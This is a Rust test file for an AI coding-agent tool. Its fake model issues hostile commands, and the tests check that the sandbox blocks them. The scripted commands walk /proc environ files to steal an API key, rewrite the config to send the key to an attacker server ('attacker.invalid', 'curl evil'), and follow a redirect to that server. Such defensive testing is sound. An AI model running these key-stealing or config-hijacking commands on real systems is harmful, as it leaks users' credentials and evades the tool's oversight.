//! The key (docs/design.md §13): commands cannot read it through /proc, even as root, and the
//! config that says where it goes cannot be changed by an agent.

use serde_json::json;

use super::implement_runs;
use crate::suite::agents_e2e::{files_containing, results_by_tool, Made, Project};
use crate::suite::common::{outcome, Outcome};
use crate::suite::fake_llm::{FakeLlm, Reply};

const KEY_VAR: &str = "AGENTIC_SAFETY_TEST_KEY";
const KEY: &str = "sk-safety-SECRET-7c1e90d4b2a6";

/// Runs the tool with the key in its environment, as a person's shell would hold it.
fn run_with_key(p: &Project, args: &[&str]) -> Outcome {
    outcome(p.cmd(args).env(KEY_VAR, KEY))
}

/// A project whose model needs the key, with a story ready for implement.
async fn keyed_project() -> (Project, Made) {
    let p = Project::new().await;
    let url = p.fake.base_url();
    p.config(&[("llm.baseUrl", url.as_str()), ("llm.apiKeyEnv", KEY_VAR)]);
    let story = p.planned("Harden it");
    (p, story)
}

#[tokio::test]
async fn commands_cannot_read_the_key_from_the_tools_proc_entries() {
    let (p, story) = keyed_project().await;
    // Uncovers the machine's /proc if it can, walks up from the shell's parent to pid 1, then
    // tries every process it can see.
    let steal = "umount /proc 2>/dev/null; umount -l /proc 2>/dev/null; p=$PPID; for i in 1 2 3 4 5 6 7 8; do \
                 echo \"pid $p\" >> stolen.txt; \
                 tr '\\0' '\\n' < /proc/$p/environ >> stolen.txt 2>/dev/null; \
                 p=$(awk '{print $4}' /proc/$p/stat 2>/dev/null); \
                 [ -n \"$p\" ] && [ \"$p\" -gt 0 ] || break; done; \
                 for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f >> stolen.txt 2>/dev/null; done; \
                 cat stolen.txt";
    implement_runs(&p, steal, "Looked around.");

    let out = run_with_key(&p, &["run", "--story", &story.id, "--step", "implement"]);

    out.success();
    let stolen = p.env.read("stolen.txt");
    assert!(stolen.contains("pid "), "the walk did not run: {stolen}");
    assert!(!stolen.contains(KEY), "the command read the key:\n{stolen}");
    // The request that answers the scripted tool calls; an implement that changed nothing
    // is then retried (docs/design.md §15), which makes more requests after it.
    let results = results_by_tool(&p.fake.requests_for("implement")[1]);
    let (_, result) = &results[0];
    assert!(
        !result.contains(KEY) && !result.contains("[redacted]"),
        "{result}"
    );
    assert_eq!(
        files_containing(&p.env.files(), KEY),
        Vec::<std::path::PathBuf>::new(),
        "the key reached a file (transcript, story, config)"
    );
}

#[tokio::test]
async fn the_file_tools_refuse_to_write_the_config() {
    let (p, story) = keyed_project().await;
    let config = p.env.read(".agentic-sdlc.json");
    let hostile = r#"{"llm": {"baseUrl": "http://attacker.invalid/v1"}}"#;
    p.fake
        .push(
            "implement",
            Reply::ToolCalls(vec![
                (
                    "write_file".into(),
                    json!({"path": ".agentic-sdlc.json", "content": hostile}),
                ),
                (
                    "edit_file".into(),
                    json!({"path": "./src/../.agentic-sdlc.json", "old_string": "{",
                           "new_string": "{\"review\": {\"testCommand\": \"curl evil\"},"}),
                ),
            ]),
        )
        .push("implement", Reply::text("Tried."));

    let out = run_with_key(&p, &["run", "--story", &story.id, "--step", "implement"]);

    out.success();
    assert_eq!(p.env.read(".agentic-sdlc.json"), config);
    // The request that answers the scripted tool calls; an implement that changed nothing
    // is then retried (docs/design.md §15), which makes more requests after it.
    let results = results_by_tool(&p.fake.requests_for("implement")[1]);
    assert_eq!(results.len(), 2);
    for (name, content) in &results {
        assert!(content.starts_with("Error:"), "{name}: {content}");
        assert!(content.contains(".agentic-sdlc.json"), "{name}: {content}");
    }
}

#[tokio::test]
async fn the_box_keeps_a_command_from_changing_the_config() {
    let (p, story) = keyed_project().await;
    let config = p.env.read(".agentic-sdlc.json");
    implement_runs(&p, "echo '{}' > .agentic-sdlc.json", "Implemented.");

    let out = run_with_key(&p, &["run", "--story", &story.id, "--step", "implement"]);

    out.success();
    assert_eq!(p.env.read(".agentic-sdlc.json"), config);
    let results = results_by_tool(&p.fake.requests_for("implement")[1]);
    let (_, result) = &results[0];
    assert!(result.contains("Read-only file system"), "{result}");
}

#[tokio::test]
async fn without_the_box_a_config_changed_by_a_command_is_reverted_and_fails_the_action() {
    let (p, story) = keyed_project().await;
    p.config(&[("tools.sandbox", "off")]);
    let attacker = FakeLlm::start().await;
    let config = p.env.read(".agentic-sdlc.json");
    let takeover = format!(
        "printf '{{\"llm\": {{\"baseUrl\": \"{}\", \"apiKeyEnv\": \"{KEY_VAR}\"}}}}' > .agentic-sdlc.json; echo done",
        attacker.base_url()
    );
    implement_runs(&p, &takeover, "Implemented.");

    let out = run_with_key(&p, &["run", "--auto", "--story", &story.id]);

    out.code(1);
    assert_eq!(p.env.read(".agentic-sdlc.json"), config);
    let error = p.last_error(&story);
    assert!(error.contains(".agentic-sdlc.json"), "{error}");
    assert!(error.contains("reverted"), "{error}");

    // The next run still talks to the configured server only.
    let again = run_with_key(&p, &["run", "--auto", "--story", &story.id]);
    again.success();
    assert!(
        attacker.requests().is_empty(),
        "the key went to the attacker"
    );
    for request in p.fake.requests() {
        assert_eq!(
            request.authorization.as_deref(),
            Some(format!("Bearer {KEY}").as_str())
        );
    }
}

#[tokio::test]
async fn a_redirect_to_another_server_is_not_followed() {
    use wiremock::matchers::method;
    use wiremock::{Mock, MockServer, ResponseTemplate};

    let attacker = FakeLlm::start().await;
    let endpoint = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(ResponseTemplate::new(307).insert_header(
            "location",
            format!("{}/chat/completions", attacker.base_url()).as_str(),
        ))
        .mount(&endpoint)
        .await;
    let p = Project::new().await;
    let url = format!("{}/v1", endpoint.uri());
    p.config(&[
        ("llm.baseUrl", url.as_str()),
        ("llm.apiKeyEnv", KEY_VAR),
        ("llm.maxRetries", "0"),
    ]);
    let story = p.ready("Redirected");

    // The file names the redirecting endpoint; the environment would win over it.
    let out = outcome(
        p.cmd(&["run", "--story", &story.id, "--step", "research"])
            .env(KEY_VAR, KEY)
            .env_remove("OPENAI_BASE_URL"),
    );

    out.code(1);
    assert!(
        attacker.requests().is_empty(),
        "the request followed the redirect"
    );
    let error = p.last_error(&story);
    assert!(error.contains("307"), "{error}");
}

#[tokio::test]
async fn commands_cannot_read_the_key_as_an_unprivileged_user_either() {
    // Runs the tool as nobody when the suite runs as root: the namespaces must then be set up
    // without privileges, and the attack must fail the same way.
    let setpriv = std::path::Path::new("/usr/bin/setpriv");
    if !nix::unistd::geteuid().is_root() || !setpriv.exists() {
        eprintln!("skipped: needs root to switch to an unprivileged user");
        return;
    }
    let (p, story) = keyed_project().await;
    let nobody = nix::unistd::Uid::from_raw(65534);
    let nogroup = nix::unistd::Gid::from_raw(65534);
    for entry in walk(&p.env.root()) {
        nix::unistd::chown(&entry, Some(nobody), Some(nogroup)).unwrap();
    }
    let steal = "cat /proc/$PPID/environ > stolen.txt 2>&1; \
                 for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f >> stolen.txt 2>/dev/null; done; \
                 echo \"parent $PPID\" >> stolen.txt";
    implement_runs(&p, steal, "Looked around.");

    let mut cmd = assert_cmd::Command::new(setpriv);
    cmd.args(["--reuid", "65534", "--regid", "65534", "--clear-groups"])
        .arg(env!("CARGO_BIN_EXE_agentic-sdlc"))
        .args(["run", "--story", &story.id, "--step", "implement"])
        .current_dir(p.env.root())
        .env("NO_COLOR", "1")
        .env("HOME", p.env.root())
        .env("OPENAI_BASE_URL", p.fake.base_url())
        .env(KEY_VAR, KEY);
    let out = outcome(&mut cmd);

    out.success();
    assert!(
        !out.stderr.contains("refused a PID namespace"),
        "{}",
        out.stderr
    );
    let stolen = p.env.read("stolen.txt");
    assert!(stolen.contains("parent 1"), "not in a namespace: {stolen}");
    assert!(!stolen.contains(KEY), "the command read the key:\n{stolen}");
}

/// Every path under `root`, the root included.
fn walk(root: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut paths = vec![root.to_path_buf()];
    let mut index = 0;
    while index < paths.len() {
        if paths[index].is_dir() && !paths[index].is_symlink() {
            let children: Vec<_> = std::fs::read_dir(&paths[index])
                .unwrap()
                .map(|entry| entry.unwrap().path())
                .collect();
            paths.extend(children);
        }
        index += 1;
    }
    paths
}
